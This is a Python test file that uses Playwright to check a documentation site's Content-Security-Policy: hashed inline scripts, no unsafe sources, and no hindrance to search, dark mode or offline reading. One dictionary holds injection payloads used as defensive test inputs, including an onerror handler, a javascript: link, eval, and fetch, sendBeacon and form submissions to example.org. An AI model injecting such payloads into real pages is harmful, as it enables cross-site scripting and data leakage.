"""The Content-Security-Policy of every page: it lets the site work, and nothing that gets in by mistake."""

from __future__ import annotations

import subprocess
import sys
from base64 import b64encode
from hashlib import sha256
from html.parser import HTMLParser
from typing import TYPE_CHECKING

import pytest
from halaman import one_of_each
from playwright.sync_api import expect
from tunggu import holds

from generator.policy import guarded

if TYPE_CHECKING:
    from pathlib import Path

    from conftest import Catatan
    from playwright.sync_api import Page

KIND = "Content-Security-Policy"
KEEP = """globalThis.pelanggaran = [];
addEventListener("securitypolicyviolation", ({effectiveDirective, blockedURI, sample}) =>
  pelanggaran.push(`${effectiveDirective} ${blockedURI} ${sample}`));"""
"""Runs before a page's own scripts, and keeps what the policy stops."""


class Reading(HTMLParser):
    """What a browser would run of a page, in the order in which it stands there."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.policies: list[str] = []
        self.before: list[str] = []
        self.scripts: list[str] = []
        self.faults: list[str] = []
        self.inside = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if given.get("http-equiv") == KIND:
            self.policies.append(given["content"] or "")
        elif not self.policies:
            self.before.append(tag)
        self.inside = tag == "script" and "src" not in given and given.get("type", "module") == "module"
        if self.inside:
            self.scripts.append("")
        self.faults += [f"{tag} {name}={value}" for name, value in attrs if name == "style" or name.startswith("on")]
        self.faults += [f"{tag} {value}" for value in given.values() if (value or "").startswith("javascript:")]
        self.faults += [tag] * (tag in {"style", "base", "iframe", "object", "embed"})

    def handle_data(self, data: str) -> None:
        if self.inside:
            self.scripts[-1] += data

    def handle_endtag(self, tag: str) -> None:
        self.inside = False


def test_every_page_says_what_it_may_do_before_it_does_anything(situs: Path) -> None:
    pages = [path for path in situs.rglob("*.html") if "unduhan" not in path.parts]
    assert len(pages) > 200
    for path in pages:
        found = Reading(path.read_text())
        assert len(found.policies) == 1, path
        assert not {"script", "link", "body"} & set(found.before), path
        assert found.faults == [], path
        rules = dict(rule.split(" ", 1) for rule in found.policies[0].split("; "))
        hashes = [f"'sha256-{b64encode(sha256(script.encode()).digest()).decode()}'" for script in found.scripts]
        assert rules["script-src"].split() == ["'self'", *dict.fromkeys(hashes)], path
        assert rules["default-src"] == "'none'"
        assert not [value for value in rules.values() if "unsafe" in value or "http" in value or "*" in value]


def test_the_policy_goes_with_the_words_of_the_scripts() -> None:
    page = '<head><meta charset="utf-8"><script>satu()</script><script type="application/json">{}</script>'
    digest = b64encode(sha256(b"satu()").digest()).decode()
    assert f"script-src 'self' 'sha256-{digest}';" in guarded(page)
    assert f"'sha256-{digest}'" not in guarded(page.replace("satu", "dua"))
    with pytest.raises(ValueError, match="charset"):
        guarded("<head><script>satu()</script>")


def test_no_kind_of_page_is_hindered(page: Page, home: str, catatan: Catatan, situs: Path) -> None:
    page.add_init_script(KEEP)
    stopped = {}
    for address in one_of_each(situs / home.rsplit("/", 2)[1]):
        page.goto(home + address)
        if address in {"", "gsbpm/5.6/", "periksa-mandiri/"}:
            page.pdf(format="A4")
        if found := page.evaluate("pelanggaran"):
            stopped[address] = found
    assert stopped == {}
    assert catatan.words == []


def test_search_colours_and_offline_reading_are_not_hindered(page: Page, home: str, catatan: Catatan) -> None:
    page.add_init_script(KEEP)
    page.goto(f"{home}gsbpm/5.6/")
    page.locator("label[title='Ganti ke tampilan gelap']").click()
    page.locator(".md-search__input").click()
    page.keyboard.type("penimbang", delay=20)
    expect(page.locator(".md-search-result__item").first).to_be_visible()
    page.goto(f"{home}periksa-mandiri/")  # where reading without a network begins
    assert holds(page, "Boolean(navigator.serviceWorker.controller)", seconds=60)
    assert page.evaluate("pelanggaran") == []
    assert catatan.words == []


ADDED = "document.body.insertAdjacentHTML('beforeend', `{}`)"
"""How words become markup by mistake."""
MISTAKES = {
    "skrip": ("document.body.append(Object.assign(document.createElement('script'), {text: 'jahat()'}))", "script-src"),
    "atribut": (ADDED.format("<img src=data:, onerror=jahat()>"), "script-src"),
    "alamat": (ADDED.format("<a id=a href=javascript:jahat()>a</a>") + "; a.click()", "script-src"),
    "teks": ("setTimeout('jahat()')", "script-src"),
    "eval": ("setTimeout(() => eval('jahat()'))", "script-src"),
    "skrip-luar": ("import('https://example.org/a.js').catch(() => 0)", "script-src"),
    "gaya": (ADDED.format('<p style="position:fixed">'), "style-src"),
    "lembar-gaya": (ADDED.format("<style>input[value^=a] { color: red }</style>"), "style-src"),
    "bingkai": (ADDED.format("<iframe src=https://example.org/></iframe>"), "frame-src"),
    "gambar": (ADDED.format("<img src=https://example.org/a.png>"), "img-src"),
    "ambil": ("fetch('https://example.org/').catch(() => 0)", "connect-src"),
    "suar": ("navigator.sendBeacon('https://example.org/', 'isian')", "connect-src"),
    "kirim": (ADDED.format("<form id=f action=https://example.org/></form>") + "; f.submit()", "form-action"),
    "dasar": ("document.head.append(Object.assign(document.createElement('base'), {href: '/x/'}))", "base-uri"),
}


@pytest.mark.parametrize("address", ["", "gsbpm/5.6/", "periksa-mandiri/"])
def test_what_gets_in_by_mistake_neither_runs_nor_leaves(page: Page, home: str, address: str) -> None:
    page.add_init_script(KEEP + "globalThis.jahat = () => { globalThis.jalan = true; };")
    page.goto(home + address)
    for name, (what, rule) in MISTAKES.items():
        page.evaluate(f"() => {{ pelanggaran = []; {what} }}")
        assert holds(page, "pelanggaran.length > 0"), name
        assert page.evaluate("pelanggaran")[0].startswith(rule), name
        assert page.evaluate("globalThis.jalan") is None, name
    assert page.url == home + address


def test_pages_reload_while_they_are_written(page: Page, root: Path) -> None:
    address = "127.0.0.1:8917"
    serve = f"from generator.mkdocs_hook import Path, serve; serve(Path({str(root)!r}), {address!r})"
    with subprocess.Popen([sys.executable, "-c", serve], stderr=subprocess.PIPE, text=True, cwd=root) as process:
        assert process.stderr
        try:
            next(line for line in process.stderr if "Serving on" in line)
            said: list[str] = []
            page.on("console", lambda message: message.type == "error" and said.append(message.text))
            with page.expect_request("**/livereload/**"):
                page.goto(f"http://{address}/")
            assert page.locator(f"meta[http-equiv={KIND}]").count() == 0
            assert said == []
        finally:
            process.terminate()
